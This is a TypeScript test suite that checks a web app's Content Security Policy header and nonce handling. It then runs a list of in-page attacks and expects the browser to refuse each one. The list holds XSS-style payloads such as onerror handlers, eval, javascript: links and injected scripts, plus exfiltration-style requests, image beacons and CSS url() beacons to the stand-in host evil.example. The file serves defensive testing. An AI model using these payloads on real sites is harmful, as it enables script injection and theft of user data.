import { describe, expect, it } from 'vitest';
import { HOME, openWindow } from './open-window.ts';

const opened = openWindow();

const policyOf = async (): Promise<ReadonlyMap<string, string>> => {
  const { headers } = await opened().app.serve({ url: HOME, method: 'GET' });
  const parts = (headers['content-security-policy'] ?? '').split('; ').map((part) => part.split(/ (.*)/));
  return new Map(parts.map(([name = '', value = '']) => [name, value]));
};

describe('the policy', () => {
  it('lets in nothing but the app itself', async () => {
    const policy = await policyOf();
    const nonce = /'nonce-([A-Za-z0-9+/=]{24})'/.exec(policy.get('style-src') ?? '')?.[1];
    expect(Object.fromEntries(policy)).toEqual({
      'default-src': "'none'",
      'script-src': "'self'",
      'style-src': `'self' 'nonce-${nonce}'`,
      'img-src': "'self' data:",
      'font-src': "'self'",
      'connect-src': "'none'",
      'worker-src': "'none'",
      'frame-src': "'none'",
      'object-src': "'none'",
      'base-uri': "'none'",
      'form-action': "'none'",
      'frame-ancestors': "'none'",
      'require-trusted-types-for': "'script'",
      'trusted-types': "'none'",
    });
  });

  it('has another nonce at every load, and the page carries the same', async () => {
    const [first, second] = await Promise.all([policyOf(), policyOf()]);
    expect(first.get('style-src')).not.toBe(second.get('style-src'));
    const { headers, body } = await opened().app.serve({ url: HOME, method: 'GET' });
    const html = Buffer.from(body).toString('utf8');
    const carried = /name="csp-nonce" content="([^"]+)"/.exec(html)?.[1];
    expect(headers['content-security-policy']).toContain(`'nonce-${carried}'`);
    expect(html).not.toContain('__CSP_NONCE__');
  });
});

/** Each is what an attacker who got markup or script into the page would try; `ran` is how it would show. */
const attacks: Readonly<Record<string, string>> = {
  'img onerror': `const i = document.createElement('img'); i.setAttribute('onerror', 'ran = 1'); i.src = 'data:,x'; document.body.append(i);`,
  'markup by innerHTML': `document.body.insertAdjacentHTML('beforeend', '<img src="data:,x" onerror="ran = 1">');`,
  'inline script': `const s = document.createElement('script'); s.append('ran = 1'); document.body.append(s);`,
  'script from elsewhere': `const s = document.createElement('script'); s.setAttribute('src', 'https://evil.example/x.js'); document.body.append(s);`,
  'script from a data address': `const s = document.createElement('script'); s.setAttribute('src', 'data:text/javascript,ran=1'); document.body.append(s);`,
  'module from a data address': `import('data:text/javascript,globalThis.ran=1');`,
  eval: `(0, eval)('ran = 1');`,
  'new Function': `new Function('ran = 1')();`,
  'a timer with text': `setTimeout('ran = 1');`,
  'javascript: link': `const a = document.createElement('a'); a.setAttribute('href', 'javascript:ran=1'); document.body.append(a); a.click();`,
  fetch: `fetch('https://evil.example/').then(() => { ran = 1; });`,
  'fetch of the app itself': `fetch('/').then(() => { ran = 1; });`,
  XMLHttpRequest: `const x = new XMLHttpRequest(); x.onload = () => { ran = 1; }; x.open('GET', '/'); x.send();`,
  WebSocket: `new WebSocket('wss://evil.example/').onopen = () => { ran = 1; };`,
  EventSource: `new EventSource('https://evil.example/').onopen = () => { ran = 1; };`,
  'image from elsewhere': `const i = new Image(); i.onload = () => { ran = 1; }; i.src = 'https://evil.example/?stolen';`,
  'style with an address': `const s = document.createElement('style'); s.append('body { background: url(https://evil.example/?stolen) }'); document.head.append(s);`,
  'style attribute in markup': `document.body.setAttribute('style', 'background: url(https://evil.example/?stolen)');`,
  'font from elsewhere': `new FontFace('x', 'url(https://evil.example/f.woff2)').load().then(() => { ran = 1; });`,
  iframe: `const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f);`,
  object: `const o = document.createElement('object'); o.data = 'https://evil.example/'; document.body.append(o);`,
  worker: `new Worker('data:text/javascript,1');`,
  'base address': `const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b);`,
  form: `const f = document.createElement('form'); f.action = 'https://evil.example/'; document.body.append(f); f.submit();`,
};

describe('an attacker in the page', () => {
  it.each(Object.entries(attacks))('%s', async (_name, code) => {
    const { page, foreignRequests } = opened();
    expect(await page.evaluate<string>(asThePage(code))).toMatch(/^refused: /);
    expect(await page.evaluate(() => Reflect.get(globalThis, 'ran'))).toBeUndefined();
    expect(foreignRequests).toEqual([]);
    expect(page.url()).toMatch(/^https:\/\/app\.tenantry\.invalid\/(#|$)/);
  });
});

/** From a timer, for what the debugger itself starts may use eval. Resolves with the browser's refusal, and only with it. */
const asThePage = (code: string): string => `new Promise((resolve) => {
  const refused = (why) => resolve('refused: ' + why);
  addEventListener('securitypolicyviolation', (event) => refused(event.effectiveDirective), { once: true });
  setTimeout(() => {
    try {
      ${code.replaceAll(/\bran =/g, 'globalThis.ran =')}
    } catch (error) {
      refused(error);
    }
  });
})`;
